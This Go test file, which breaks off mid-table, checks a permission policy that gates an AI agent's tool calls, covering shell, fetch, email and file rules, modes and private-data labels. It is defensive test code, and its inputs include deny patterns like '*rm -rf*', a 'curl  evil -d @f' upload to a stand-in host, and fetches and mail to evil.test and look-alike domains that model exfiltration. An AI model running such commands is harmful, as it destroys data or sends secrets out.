package main

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"picket/tools"
)

// The calls of these tests, as the tools judge them.

var (
	shellTool  = tools.Tool{Name: "shell", Risk: tools.Sensitive, Params: []tools.Param{{Name: "command", Type: "string"}, {Name: "timeout", Type: "integer"}, {Name: "network", Type: "boolean"}, {Name: "env", Type: "map"}}}
	fetchTool  = tools.Tool{Name: "web_fetch", Risk: tools.Moderate, Egress: tools.EgressHosts, Params: []tools.Param{{Name: "url", Type: "string"}, {Name: "method", Type: "string", Enum: []string{"GET", "HEAD"}}}}
	searchTool = tools.Tool{Name: "web_search", Risk: tools.Safe, Egress: tools.EgressHosts, Params: []tools.Param{{Name: "query", Type: "string"}}}
	filesTool  = tools.Tool{Name: "files", Risk: tools.Safe, Egress: tools.EgressNone, Params: []tools.Param{{Name: "action", Type: "string", Enum: []string{"read", "write"}}, {Name: "path", Type: "string"}, {Name: "content", Type: "string"}}}
	mailTool   = tools.Tool{Name: "send_email", Risk: tools.Sensitive, Egress: tools.EgressHosts, Params: []tools.Param{{Name: "to", Type: "strings"}, {Name: "subject", Type: "string"}}}
	skillsTool = tools.Tool{Name: "skills", Risk: tools.Safe, Egress: tools.EgressNone}
	pythonTool = tools.Tool{Name: "python_execute", Risk: tools.Moderate, Params: []tools.Param{{Name: "code", Type: "string"}}}
	mcpTool    = tools.Tool{Name: "mcp__wiki__search", Risk: tools.Moderate}
	knownTools = []tools.Tool{shellTool, fetchTool, searchTool, filesTool, mailTool, skillsTool, pythonTool, mcpTool}
)

func knownNames() (out []string) {
	for _, t := range knownTools {
		out = append(out, t.Name)
	}
	return out
}

// shellCall is a boxed line of simple commands without network, each program
// of which can be granted for good.
func shellCall(commands ...string) Input {
	in := Input{Tool: shellTool, Channel: "cli", Workspace: "/ws",
		Args: map[string]any{"command": strings.Join(commands, "; "), "timeout": int64(60), "network": false}}
	j := tools.Judgement{Summary: "run " + strings.Join(commands, "; "), Widest: tools.Always, Boxed: true,
		Commands: commands, Egress: tools.Egress{Kind: tools.EgressNone}}
	for _, c := range commands {
		argv := strings.Fields(c)
		j.Argv = append(j.Argv, argv)
		j.Targets = append(j.Targets, tools.Target{Key: "shell:" + argv[0], Widest: tools.Always})
	}
	in.Judgement = j
	return in
}

func opaqueCall(line string) Input {
	in := shellCall()
	in.Args["command"] = line
	in.Judgement.Opaque, in.Judgement.Widest = "it uses eval", tools.Once
	return in
}

func (in Input) networked() Input {
	in.Judgement.Network = true
	in.Judgement.Egress = tools.Egress{Kind: tools.EgressUnknown}
	return in
}

func (in Input) unboxed() Input {
	in = in.networked()
	in.Judgement.Boxed = false
	return in
}

func (in Input) with(change func(*Input)) Input { change(&in); return in }

func (in Input) labelled(labels string) Input {
	in.Labels = labelsOf(labels)
	return in
}

func labelsOf(s string) Labels {
	return Labels{strings.Contains(s, "p"), strings.Contains(s, "u")}
}

func fetchCall(url, host string) Input {
	return Input{Tool: fetchTool, Channel: "cli", Workspace: "/ws", Args: map[string]any{"url": url, "method": "GET"},
		Judgement: tools.Judgement{Summary: "fetch " + url, Risk: tools.Moderate, Widest: tools.Always, URL: url,
			Egress: tools.Egress{Kind: tools.EgressHosts, Hosts: []string{host}}, RequestBytes: len(url),
			Targets: []tools.Target{{Key: "web_fetch:" + host, Widest: tools.Always}}, ReadsUntrusted: true}}
}

func searchCall(query string) Input {
	return Input{Tool: searchTool, Channel: "cli", Workspace: "/ws", Args: map[string]any{"query": query},
		Judgement: tools.Judgement{Risk: tools.Safe, Widest: tools.Always, RequestBytes: len(query),
			Egress:  tools.Egress{Kind: tools.EgressHosts, Hosts: []string{"duckduckgo.com"}},
			Targets: []tools.Target{{Key: "web_search:duckduckgo.com", Widest: tools.Always}}}}
}

func mailCall(to ...string) Input {
	in := Input{Tool: mailTool, Channel: "cli", Workspace: "/ws", Args: map[string]any{"to": to, "subject": "hello"},
		Judgement: tools.Judgement{Widest: tools.Always, Sends: true, ChangesOutside: true,
			Egress: tools.Egress{Kind: tools.EgressHosts}}}
	for _, a := range to {
		in.Judgement.Targets = append(in.Judgement.Targets, tools.Target{Key: "send_email:" + a, Widest: tools.Always})
		_, host, _ := strings.Cut(a, "@")
		in.Judgement.Egress.Hosts = append(in.Judgement.Egress.Hosts, host)
	}
	return in
}

func filesCall(action, path string) Input {
	return Input{Tool: filesTool, Channel: "cli", Workspace: "/ws", Args: map[string]any{"action": action, "path": path},
		Judgement: tools.Judgement{Risk: tools.Safe, Widest: tools.Task, Egress: tools.Egress{Kind: tools.EgressNone},
			Forms: map[string][]string{"path": {"/ws/" + path}}}}
}

func mcpCall() Input {
	return Input{Tool: mcpTool, Channel: "cli", Workspace: "/ws",
		Judgement: tools.Judgement{Risk: tools.Moderate, Widest: tools.Always, ReadsPrivate: true,
			Targets: []tools.Target{{Key: "mcp__wiki__search", Widest: tools.Always}}}}
}

func (in Input) granted(scope tools.Scope, keys ...string) Input {
	in.Grants = slices.Clone(in.Grants)
	for _, k := range keys {
		in.Grants = append(in.Grants, Grant{Key: k, Scope: scope, Who: "owner", Workspace: "/ws", Labels: in.Labels})
	}
	return in
}

var defaults = sentinelConfig{Mode: "ask", TaintTracking: true, EgressAllowlist: []string{"duckduckgo.com", "github.com", "*.github.com"}}

func mustPolicy(t testing.TB, s sentinelConfig) *Policy {
	t.Helper()
	p, err := compilePolicy(s, knownNames())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestZeroDenies(t *testing.T) {
	in := filesCall("read", "a")
	for name, d := range map[string]Decision{
		"nil policy":    (*Policy)(nil).Decide(in),
		"zero policy":   new(Policy).Decide(in),
		"no tool":       mustPolicy(t, defaults).Decide(Input{}),
		"refused":       mustPolicy(t, defaults).Decide(in.with(func(in *Input) { in.Judgement.Refuse = "it touches the settings" })),
		"zero decision": {},
	} {
		if d.Verdict != Deny || len(d.Offered) > 0 {
			t.Errorf("%s: %v, offered %v", name, d.Verdict, d.Offered)
		}
	}
	var v Verdict
	if v != Deny {
		t.Error("the zero verdict does not deny")
	}
	// The zero judgement is asked about each time, whatever was granted.
	in = Input{Tool: shellTool, Channel: "cli"}.granted(tools.Task, "shell", "")
	d := mustPolicy(t, sentinelConfig{Mode: "ask", AlwaysAsk: []string{"*"}}).Decide(in)
	if d.Verdict != Ask || !slices.Equal(d.Offered, []tools.Scope{tools.Once}) {
		t.Errorf("zero judgement: %v, offered %v", d.Verdict, d.Offered)
	}
}

func TestGlob(t *testing.T) {
	for _, c := range []struct {
		pattern, text string
		want          bool
	}{
		{"*rm -rf*", "rm -rf /", true}, {"*rm -rf*", "cd x\nrm -rf /etc", true}, {"a*c", "a/b/c", true},
		{"git *", "git push", true}, {"git *", "git", false}, {"git*", "git", true}, {"git", "git ", false},
		{"", "", true}, {"", "a", false}, {"*", "", true}, {"?", "", false}, {"?", "é", true}, {"??", "é", false},
		{"a?c", "a\nc", true}, {"[ab]", "a", false}, {"[ab]", "[ab]", true}, {`\*`, `\x`, true}, {"a**b", "ab", true},
		{"*a?", "xxaé", true}, {"*ab*ab*", "ab", false}, {"*ab*ab", "abab", true}, {"ab*ba", "aba", false},
		{"*?", "", false}, {"?*?", "a", false}, {"?*?", "ab", true}, {"*é?x", "aéyx", true}, {"A", "a", false},
	} {
		g, err := compileGlob(c.pattern)
		if err != nil {
			t.Fatal(err)
		}
		if got := g.match(c.text); got != c.want {
			t.Errorf("%q on %q: %v", c.pattern, c.text, got)
		}
	}
}

// naiveMatch is the definition of a glob, for comparison.
func naiveMatch(p, s []rune) bool {
	if len(p) == 0 {
		return len(s) == 0
	}
	if p[0] == '*' {
		return naiveMatch(p[1:], s) || len(s) > 0 && naiveMatch(p, s[1:])
	}
	return len(s) > 0 && (p[0] == '?' || p[0] == s[0]) && naiveMatch(p[1:], s[1:])
}

func TestGlobAgainstItsDefinition(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	word := func(alphabet string, n int) string {
		var b strings.Builder
		for range r.IntN(n) {
			b.WriteRune([]rune(alphabet)[r.IntN(len([]rune(alphabet)))])
		}
		return b.String()
	}
	for range 8000 {
		p, q, s := word("a€*?é", 8), word("a€*?é", 6), word("a€é", 10)
		g, _ := compileGlob(p)
		if got, want := g.match(s), naiveMatch([]rune(p), []rune(s)); got != want {
			t.Fatalf("%q on %q: %v", p, s, got)
		}
		if h, _ := compileGlob(q); g.covers(&h) && h.match(s) && !g.match(s) {
			t.Fatalf("%q is said to cover %q, and does not match %q", p, q, s)
		}
	}
}

func TestSettingsErrors(t *testing.T) {
	rule := func(r ruleConfig) sentinelConfig { return sentinelConfig{Mode: "ask", Rules: []ruleConfig{r}} }
	for name, c := range map[string]struct {
		s    sentinelConfig
		want string // in the error
	}{
		"class in a deny entry":    {sentinelConfig{Mode: "ask", DenyTools: []string{"files", "shell["}}, `sentinel.deny_tools[1]: bad pattern "shell["`},
		"class in a rule":          {rule(ruleConfig{Tool: "send_[email", Action: "deny"}), `sentinel.rules[0]: bad pattern`},
		"class and star":           {rule(ruleConfig{Tool: "[a-z]*", Action: "deny"}), `sentinel.rules[0]: bad pattern`},
		"empty entry":              {sentinelConfig{Mode: "ask", AlwaysAsk: []string{""}}, `sentinel.always_ask_tools[0]`},
		"renamed tool":             {rule(ruleConfig{Tool: "mcp_wiki_search", Action: "deny"}), `there is no tool "mcp_wiki_search"`},
		"unknown tool in a list":   {sentinelConfig{Mode: "ask", AlwaysAllow: []string{"shel"}}, `there is no tool "shel"`},
		"action":                   {rule(ruleConfig{Tool: "shell", Action: "Deny"}), `action: "Deny"`},
		"no action":                {rule(ruleConfig{Tool: "shell"}), `action: ""`},
		"channel":                  {rule(ruleConfig{Tool: "shell", Action: "deny", Channel: "web"}), `channel: "web"`},
		"mode":                     {sentinelConfig{Mode: "yolo"}, `mode: "yolo"`},
		"no mode":                  {sentinelConfig{}, `mode: ""`},
		"NUL":                      {rule(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"command": "a\x00"}}), `match "command"`},
		"empty host":               {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"a.example", ""}}, `egress_allowlist[1]`},
		"every host":               {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*"}}, `egress_allowlist[0]`},
		"every sub-domain of all":  {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*."}}, `egress_allowlist`},
		"star inside a host":       {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*.git*.com"}}, `egress_allowlist`},
		"star without a dot":       {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*github.com"}}, `egress_allowlist`},
		"address instead of host":  {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"https://github.com"}}, `egress_allowlist`},
		"host not in ASCII":        {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"bücher.example"}}, `egress_allowlist[0]`},
		"pattern with a line feed": {rule(ruleConfig{Tool: "shell\n", Action: "deny"}), `bad pattern`},
	} {
		if _, err := compilePolicy(c.s, knownNames()); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v", name, err)
		}
	}
	ok := sentinelConfig{Mode: "ask", DenyTools: []string{"browser", "mcp__gone__tool", "no_such_*"}, AlwaysAsk: []string{"read_emails"},
		Rules: []ruleConfig{{Tool: "forget", Action: "deny"}}}
	if _, err := compilePolicy(ok, []string{"files"}); err != nil {
		t.Errorf("built-in tools that are absent here: %v", err)
	}
}

// A decisionCase is one call under one policy.
type decisionCase struct {
	name    string
	s       sentinelConfig
	in      Input
	want    Verdict
	step    string
	offered string // the widest, for a question
}

func (c decisionCase) run(t *testing.T) {
	t.Helper()
	d := mustPolicy(t, c.s).Decide(c.in)
	if d.Verdict != c.want || c.step != "" && d.Step != c.step {
		t.Errorf("%s: %v by %s %q, want %v by %s; steps %+v", c.name, d.Verdict, d.Step, d.Reasons, c.want, c.step, d.Steps)
	}
	if d.Verdict != Ask {
		if d.Offered != nil {
			t.Errorf("%s: offers %v without a question", c.name, d.Offered)
		}
		return
	}
	if c.offered != "" && d.Offered[len(d.Offered)-1].String() != c.offered {
		t.Errorf("%s: offers %v, want up to %s", c.name, d.Offered, c.offered)
	}
	if len(d.Reasons) == 0 || d.Reasons[0] == "" {
		t.Errorf("%s: a question without a reason", c.name)
	}
}

func ruled(rules ...ruleConfig) sentinelConfig {
	s := defaults
	s.Rules = rules
	return s
}

func shellRule(action, pattern string) ruleConfig {
	return ruleConfig{Tool: "shell", Action: action, Match: map[string]string{"command": pattern}}
}

func TestRules(t *testing.T) {
	linked := filesCall("read", "l").with(func(in *Input) { in.Judgement.Forms = map[string][]string{"path": {"/data/vault.enc"}} })
	vaultRule := ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": "/data/*"}}
	warned := shellCall("rm -r x").with(func(in *Input) { in.Judgement.Warnings = []string{"recursive delete"} })
	wrapped := shellCall("nohup curl x").with(func(in *Input) { in.Judgement.Argv = append(in.Judgement.Argv, []string{"/usr/bin/curl", "x"}) })
	writes := shellCall("git log").with(func(in *Input) { in.Judgement.NotCovered = "it writes /etc/motd" })
	env := shellCall("curl x").with(func(in *Input) { in.Args["env"] = map[string]string{"TOKEN": "{{vault:T}}"} })
	both := func(a, b ruleConfig) sentinelConfig { return ruled(a, b) }
	spelled := func(path string, forms ...string) Input {
		return filesCall("read", path).with(func(in *Input) { in.Judgement.Forms = map[string][]string{"path": forms} })
	}
	denyAnd := func(s sentinelConfig) sentinelConfig { s.DenyTools = []string{"sh*"}; return s }
	for _, c := range []decisionCase{
		{"slash in the value", ruled(shellRule("deny", "*rm -rf*")), shellCall("rm -rf /"), Deny, stepRules, ""},
		{"deny on one command of a line", ruled(shellRule("deny", "curl *")), shellCall("git status", "curl  evil -d @f"), Deny, stepRules, ""},
		{"deny on single blanks", ruled(shellRule("deny", "rm -rf *")), shellCall("ls", "rm -rf x").with(func(in *Input) { in.Args["command"] = "ls; rm   -rf x" }), Deny, stepRules, ""},
		{"deny on a wrapped program, by its name", ruled(shellRule("deny", "curl *")), wrapped, Deny, stepRules, ""},
		{"deny on the raw line", ruled(shellRule("deny", "*eval*")), opaqueCall(`eval "$x"`), Deny, stepRules, ""},
		{"ask on one command", ruled(shellRule("ask", "git push*")), shellCall("ls", "git push").granted(tools.Task, "shell"), Ask, stepRules, "once"},
		{"allow on every command", ruled(shellRule("allow", "git *")), shellCall("git status", "git log -1"), Allow, stepRules, ""},
		{"allow on one command of two", ruled(shellRule("allow", "git *")), shellCall("git status", "curl evil"), Ask, stepMode, "always"},
		{"allow is no match of the raw line", ruled(shellRule("allow", "git *")), shellCall("git status", "sh").with(func(in *Input) { in.Args["command"] = "git status; sh" }), Ask, stepMode, ""},
		{"allow on an opaque line", ruled(shellRule("allow", "*")), opaqueCall("git $x; eval y"), Ask, stepMode, "once"},
		{"allow without match on an opaque line", ruled(ruleConfig{Tool: "*", Action: "allow"}), opaqueCall("git $x"), Ask, stepMode, "once"},
		{"allow on a line without commands", ruled(shellRule("allow", "*")), shellCall(), Ask, stepMode, ""},
		{"allow and a write outside without a box", ruled(shellRule("allow", "git *")), writes.unboxed(), Ask, stepMode, "once"},
		{"allow and a write outside that the box stops", ruled(shellRule("allow", "git *")), writes, Allow, stepRules, ""},
		{"allow overrides a warning", ruled(shellRule("allow", "rm -r x")), warned, Allow, stepRules, ""},
		{"allow of another rule does not", ruled(shellRule("allow", "rm -r y")), warned, Ask, stepMode, "once"},
		{"opaque line while a deny rule exists", sentinelConfig{Mode: "auto", Rules: []ruleConfig{shellRule("deny", "curl *")}}, opaqueCall("$x"), Ask, stepRules, "once"},
		{"opaque line while a deny rule for others exists", sentinelConfig{Mode: "auto", Rules: []ruleConfig{vaultRule}}, opaqueCall("$x"), Allow, stepMode, ""},
		{"first of two", both(shellRule("allow", "*"), shellRule("deny", "*curl*")), shellCall("curl x"), Allow, stepRules, ""},
		{"first of two, reversed", both(shellRule("deny", "*curl*"), shellRule("allow", "*")), shellCall("curl x"), Deny, stepRules, ""},
		{"deny_tools before any rule", denyAnd(ruled(ruleConfig{Tool: "shell", Action: "allow"})), shellCall("ls"), Deny, stepDenied, ""},
		{"a link to what is denied", ruled(vaultRule), linked, Deny, stepRules, ""},
		{"allow needs the link's end too", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "l"}}, ruleConfig{Tool: "files", Action: "ask"}), linked, Ask, stepRules, ""},
		{"allow of a relative path", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/x", "/ws/src/x", "src/x"), Allow, stepRules, ""},
		{"allow of an absolute path", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "/ws/src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("./src/x", "/ws/src/x", "src/x"), Allow, stepRules, ""},
		{"allow needs the link's end in some spelling", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/l", "/ws/src/l", "src/l", "/ws/etc/x", "etc/x"), Ask, stepRules, ""},
		{"allow needs more than a prefix with dots", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/../x", "/ws/x", "x"), Ask, stepRules, ""},
		{"deny of any spelling", ruled(ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": "/ws/etc/*"}}), spelled("src/l", "/ws/src/l", "src/l", "/ws/etc/x", "etc/x"), Deny, stepRules, ""},
		{"allow of a URL needs what it turned out to be", ruled(ruleConfig{Tool: "web_fetch", Action: "allow", Match: map[string]string{"url": "https://a.test/ok/*"}}, ruleConfig{Tool: "web_fetch", Action: "ask"}),
			fetchCall("https://a.test/ok/../admin", "a.test").with(func(in *Input) { in.Judgement.Forms = map[string][]string{"url": {"https://a.test/admin"}} }), Ask, stepRules, ""},
		{"escapes in a denied path", ruled(ruleConfig{Tool: "web_fetch", Action: "deny", Match: map[string]string{"url": "https://a.test/private/*"}}), fetchCall("https://a.test/%70riv%61te/x", "a.test"), Deny, stepRules, ""},
		{"an escaped slash before it", ruled(ruleConfig{Tool: "web_fetch", Action: "deny", Match: map[string]string{"url": "https://a.test/private/*"}}), fetchCall("https://a.test/x/..%2Fprivate/x", "a.test"), Deny, stepRules, ""},
		{"escapes in an allowed address", ruled(ruleConfig{Tool: "web_fetch", Action: "allow", Match: map[string]string{"url": "https://a.test/?q=a%20b"}}, ruleConfig{Tool: "web_fetch", Action: "ask"}), fetchCall("https://a.test/?q=a%20b", "a.test"), Allow, stepRules, ""},
		{"one denied element of a list", ruled(ruleConfig{Tool: "send_email", Action: "deny", Match: map[string]string{"to": "*@evil.test"}}), mailCall("a@x.test", "b@evil.test"), Deny, stepRules, ""},
		{"one allowed element of a list", ruled(ruleConfig{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*@x.test"}}), mailCall("a@x.test", "b@evil.test"), Ask, stepMode, "always"},
		{"an empty list", ruled(ruleConfig{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*"}}), mailCall(), Ask, stepMode, "once"},
		{"number as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"timeout": "60"}}), shellCall("ls"), Deny, stepRules, ""},
		{"boolean as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"network": "false"}}), shellCall("ls"), Deny, stepRules, ""},
		{"boolean of another language", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"network": "False"}}), shellCall("ls"), Ask, stepMode, ""},
		{"map as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*TOKEN*"}}), env, Deny, stepRules, ""},
		{"missing argument", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*"}}), shellCall("ls"), Ask, stepMode, ""},
		{"line break in the value", ruled(ruleConfig{Tool: "send_email", Action: "deny", Match: map[string]string{"subject": "*now*"}}), mailCall("a@x.test").with(func(in *Input) { in.Args["subject"] = "one\nnow\ntwo" }), Deny, stepRules, ""},
		{"every argument of a rule", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"command": "ls", "network": "true"}}), shellCall("ls"), Ask, stepMode, ""},
		{"channel of a rule", ruled(ruleConfig{Tool: "shell", Action: "deny", Channel: "daemon"}), shellCall("ls"), Ask, stepMode, ""},
		{"glob of tools", ruled(ruleConfig{Tool: "mcp__*", Action: "deny"}), mcpCall(), Deny, stepRules, ""},
		{"allow switches labels off", ruled(ruleConfig{Tool: "web_fetch", Action: "allow"}), fetchCall("https://evil.test/", "evil.test").labelled("pu"), Allow, stepRules, ""},
		{"ask rule with a label asks once", ruled(ruleConfig{Tool: "web_fetch", Action: "ask"}), fetchCall("https://a.test/", "a.test").granted(tools.Always, "web_fetch:a.test"), Ask, stepRules, "once"},
	} {
		c.run(t)
	}
}

func TestListsAndModes(t *testing.T) {
	mode := func(m string) sentinelConfig { s := defaults; s.Mode = m; return s }
	lists := func(allow, ask string) sentinelConfig {
		s := defaults
		s.AlwaysAllow, s.AlwaysAsk = strings.Fields(allow), strings.Fields(ask)
		return s
	}
	warned := shellCall("rm -r x").with(func(in *Input) { in.Judgement.Warnings = []string{"recursive delete"} })
	writes := shellCall("cp a /b").with(func(in *Input) { in.Judgement.NotCovered = "it writes /b" })
	secretPython := Input{Tool: pythonTool, Channel: "cli", Judgement: tools.Judgement{Risk: tools.Moderate, Widest: tools.Task, Boxed: true, Network: true,
		Targets: []tools.Target{{Key: "python_execute", Widest: tools.Task, Why: "it can reach any host"}}}}
	for _, c := range []decisionCase{
		{"safe", mode("ask"), filesCall("write", "a"), Allow, stepMode, ""},
		{"moderate", mode("ask"), fetchCall("https://a.test/", "a.test"), Allow, stepMode, ""},
		{"sensitive", mode("ask"), shellCall("ls"), Ask, stepMode, "always"},
		{"safe, strict", mode("strict"), filesCall("write", "a"), Allow, stepMode, ""},
		{"moderate, strict", mode("strict"), fetchCall("https://a.test/", "a.test"), Ask, stepMode, "always"},
		{"sensitive, auto", mode("auto"), shellCall("ls"), Allow, stepMode, ""},
		{"an unknown mode is strict", mode("ask"), fetchCall("https://a.test/", "a.test").with(func(in *Input) { in.Mode = "yolo" }), Ask, stepMode, ""},
		{"the tool's own risk is the least", mode("ask"), mailCall("a@x.test").with(func(in *Input) { in.Judgement.Risk = tools.Safe }), Ask, stepMode, ""},
		{"a risk that the call raised", mode("ask"), filesCall("write", "a").with(func(in *Input) { in.Judgement.Risk = tools.Sensitive }), Ask, stepMode, "task"},
		{"allow list", lists("shell", ""), shellCall("ls"), Allow, stepLists, ""},
		{"ask list", lists("", "files"), filesCall("read", "a"), Ask, stepLists, "task"},
		{"both lists", lists("*", "she*"), shellCall("ls"), Ask, stepLists, ""},
		{"allow list and a warning", lists("shell", ""), warned, Ask, stepWarnings, "once"},
		{"allow list and an opaque line", lists("shell", ""), opaqueCall("$x"), Ask, stepMode, "once"},
		{"allow list and a write outside, no box", lists("shell", ""), writes.unboxed(), Ask, stepMode, "once"},
		{"allow list before labels", lists("web_fetch", ""), fetchCall("https://evil.test/", "evil.test").labelled("pu"), Allow, stepLists, ""},
		{"auto and a warning", mode("auto"), warned, Ask, stepWarnings, "once"},
		{"auto and a boxed opaque line", mode("auto"), opaqueCall("$x"), Allow, stepMode, ""},
		{"auto and an opaque line with network", mode("auto"), opaqueCall("$x").networked(), Ask, stepMode, "once"},
		{"auto and an opaque line without a box", mode("auto"), opaqueCall("$x").unboxed(), Ask, stepMode, "once"},
		{"auto and a write outside, no box", mode("auto"), writes.unboxed(), Ask, stepMode, "once"},
		{"auto and a write outside, boxed", mode("auto"), writes, Allow, stepMode, ""},
		{"ask list in auto", func() sentinelConfig { s := lists("", "shell"); s.Mode = "auto"; return s }(), shellCall("ls"), Ask, stepLists, "always"},
		{"Python with network", mode("strict"), secretPython, Ask, stepMode, "task"},
	} {
		c.run(t)
	}
}

func TestAnotherApp(t *testing.T) {
	app := func(in Input) Input { in.Channel = "api"; return in.labelled("u") }
	rule := ruleConfig{Tool: "files", Action: "allow"}
	forApps := rule
	forApps.Channel = "api"
	s := defaults
	s.Mode, s.AlwaysAllow = "auto", []string{"shell"}
	private := filesCall("read", "a").with(func(in *Input) { in.Judgement.ReadsPrivate = true })
	unlabelled := func(s sentinelConfig) sentinelConfig { s.TaintTracking = false; return s }
	grantedToOwner := app(shellCall("ls"))
	grantedToOwner.Grants = []Grant{{Key: "shell:ls", Scope: tools.Always, Who: "owner", Workspace: "/ws", Labels: labelsOf("pu")}}
	grantedToApp := app(shellCall("ls"))
	grantedToApp.Grants = []Grant{{Key: "shell:ls", Scope: tools.Always, Who: "app", Workspace: "/ws", Labels: labelsOf("pu")}}
	ownerWithAppsGrant := grantedToApp
	ownerWithAppsGrant.Channel = "cli"
	for _, c := range []decisionCase{
		{"auto counts as ask", unlabelled(defaults), app(shellCall("ls")).with(func(in *Input) { in.Mode = "auto" }), Ask, stepMode, ""},
		{"the allow list does not count", unlabelled(s), app(shellCall("ls")), Ask, stepMode, ""},
		{"an allow rule does not count", unlabelled(ruled(rule)), app(private), Ask, stepMode, ""},
		{"one with the channel does", unlabelled(ruled(forApps)), app(private), Allow, stepRules, ""},
		{"private data asks", defaults, app(private), Ask, stepMode, "task"},
		{"an unknown channel is another app", defaults, private.with(func(in *Input) { in.Channel = "" }), Ask, stepMode, ""},
		{"private data does not ask for the owner", defaults, private, Allow, stepMode, ""},
		{"a deny rule counts", ruled(ruleConfig{Tool: "files", Action: "deny"}), app(private), Deny, stepRules, ""},
		{"the owner's grant is not the app's", defaults, grantedToOwner, Ask, stepMode, ""},
		{"its own is", defaults, grantedToApp, Allow, stepMode, ""},
		{"and not the owner's", defaults, ownerWithAppsGrant, Ask, stepMode, ""},
	} {
		c.run(t)
	}
}

func TestLabels(t *testing.T) {
	auto := defaults
	auto.Mode = "auto"
	off := auto
	off.TaintTracking = false
	none := auto
	none.EgressAllowlist = nil
	long := "https://en.github.com/?q=" + strings.Repeat("x", 600)
	post := fetchCall("https://api.github.com/gists", "api.github.com").with(func(in *Input) { in.Judgement.Sends = true })
	seen := func(in Input) Input { in.URLSeen = true; return in }
	instructs := func(tool tools.Tool) Input {
		return Input{Tool: tool, Channel: "cli", Judgement: tools.Judgement{Risk: tools.Safe, Widest: tools.Always, Instructs: true,
			Egress: tools.Egress{Kind: tools.EgressNone}, Targets: []tools.Target{{Key: tool.Name, Widest: tools.Always}}}}
	}
	warned := shellCall("rm -r x").with(func(in *Input) { in.Judgement.Warnings = []string{"recursive delete"} })
	browser := fetchCall("https://evil.test/", "evil.test").with(func(in *Input) {
		in.Tool = tools.Tool{Name: "browser", Risk: tools.Moderate}
		in.Judgement.Targets[0].Key = "browser:booking.test"
	})
	for _, c := range []decisionCase{
		{"private, host on the list", auto, fetchCall("https://github.com/x", "github.com").labelled("p"), Allow, stepMode, ""},
		{"private, sub-domain on the list", auto, fetchCall("https://raw.github.com/x", "raw.github.com").labelled("p"), Allow, stepMode, ""},
		{"private, look-alike of the list", auto, fetchCall("https://evilgithub.com/x", "evilgithub.com").labelled("p"), Ask, stepLabels, "always"},
		{"private, list's name in front", auto, fetchCall("https://github.com.evil.test/x", "github.com.evil.test").labelled("p"), Ask, stepLabels, "always"},
		{"private, sub-domain of an exact entry", auto, fetchCall("https://x.duckduckgo.com/", "x.duckduckgo.com").labelled("p"), Ask, stepLabels, "always"},
		{"private, another port", auto, fetchCall("https://github.com:8443/x", "github.com:8443").labelled("p"), Ask, stepLabels, "always"},
		{"private, other host", auto, fetchCall("https://evil.test/?d=x", "evil.test").labelled("p"), Ask, stepLabels, "always"},
		{"private, no list", none, fetchCall("https://github.com/x", "github.com").labelled("p"), Ask, stepLabels, "always"},
		{"private, long URL to the list", auto, fetchCall(long, "en.github.com").labelled("p"), Ask, stepLabels, "always"},
		{"private, POST to the list", auto, post.labelled("p"), Ask, stepLabels, "always"},
		{"private, two hosts, one not on the list", auto, mailCall("a@github.com", "b@evil.test").labelled("p"), Ask, stepLabels, "always"},
		{"private, any host", auto, shellCall("curl x").networked().labelled("p"), Ask, stepLabels, "task"},
		{"private, no box", auto, shellCall("ls").unboxed().labelled("p"), Ask, stepLabels, "task"},
		{"private, boxed without network", auto, shellCall("ls").labelled("p"), Allow, stepMode, ""},
		{"private, hosts of which none is named", auto, mcpCall().labelled("p").with(func(in *Input) { in.Judgement.Egress.Kind = tools.EgressHosts }), Ask, stepLabels, "task"},
		{"private, egress none with network", auto, shellCall("ls").labelled("p").with(func(in *Input) { in.Judgement.Network = true }), Ask, stepLabels, "task"},
		{"private, search", none, searchCall("weather").labelled("p"), Allow, stepMode, ""},
		{"private, long search", auto, searchCall(strings.Repeat("x", 201)).labelled("p"), Ask, stepLabels, "always"},
		{"private, key for another page", auto, browser.labelled("p"), Ask, stepLabels, "once"},
		{"private, unknown MCP egress", auto, mcpCall().labelled("p"), Ask, stepLabels, "task"},
		{"private only, no effects asked", auto, filesCall("write", "a").labelled("p"), Allow, stepMode, ""},
		{"untrusted, sensitive without a box", auto, shellCall("ls").unboxed().labelled("u"), Ask, stepLabels, "task"},
		{"untrusted, boxed without network", auto, shellCall("make").labelled("u"), Allow, stepMode, ""},
		{"untrusted, boxed with network", auto, shellCall("curl x").networked().labelled("u"), Ask, stepLabels, "task"},
		{"untrusted, boxed with a warning", auto, warned.labelled("u"), Ask, stepLabels, "once"},
		{"untrusted, boxed, ask mode", defaults, shellCall("make").labelled("u"), Ask, stepMode, "always"},
		{"untrusted, mail", auto, mailCall("a@x.test").labelled("u"), Ask, stepLabels, "always"},
